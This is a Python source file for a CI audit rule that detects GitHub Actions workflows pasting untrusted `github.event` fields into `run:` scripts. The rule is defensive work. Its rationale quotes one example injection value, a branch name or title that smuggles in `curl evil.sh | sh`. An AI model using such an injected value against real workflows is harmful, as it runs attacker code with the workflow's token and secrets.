"""CI-009: never interpolate `${{ github.event.* }}` into `run:`."""

from __future__ import annotations

import re
from collections.abc import Iterator

from scalefold.audit.model import Category, Hit, Location, Severity
from scalefold.audit.project import Project
from scalefold.audit.rule import Rule

# GitHub pastes `${{ … }}` expressions into the script text before any shell parses it, so the
# danger lives at the text level: the expressions are found in the text, as GitHub finds them.
_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_UNTRUSTED = re.compile(r"\bgithub\.(?:event\.[\w.\-\[\]'\"*]+|head_ref)")
_SAFE_FIELD = re.compile(r"(?:\.|_)(?:number|id|sha)$")


def _expression_line(project: Project, path: str, start: int, expression: str) -> int:
    lines = project.lines(path)
    for index in range(start - 1, min(len(lines), start + 400)):
        if expression in lines[index]:
            return index + 1
    return start


def check(project: Project, rule: Rule) -> Iterator[Hit]:
    for workflow in project.require_workflows():
        for job in workflow.jobs.values():
            for step in job.steps:
                if not step.run:
                    continue
                for match in _EXPRESSION.finditer(step.run):
                    for untrusted in _UNTRUSTED.findall(match.group(1)):
                        if _SAFE_FIELD.search(untrusted):
                            continue
                        line = _expression_line(project, workflow.path, step.run_line, match.group(0))
                        yield Hit(
                            Location(workflow.path, line, f"run interpolates {untrusted}"),
                            f'`{untrusted}` is pasted into the script: pass it through `env:` and use "$VAR"',
                        )


RULE = Rule(
    id="CI-009",
    name="ci-no-event-injection",
    category=Category.CI,
    severity=Severity.ERROR,
    title="Never interpolate `${{ github.event.* }}` into `run:`",
    rationale="""Expressions are pasted into the script before the shell runs it, so a pull request
        title or branch name like `"; curl evil.sh | sh #` becomes a command with the workflow's
        token and secrets.""",
    fix="""Pass the value through an environment variable and quote it: `env: { TITLE: ${{
        github.event.pull_request.title }} }` then `run: echo "$TITLE"`.""",
    check=check,
    references=(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    ),
)
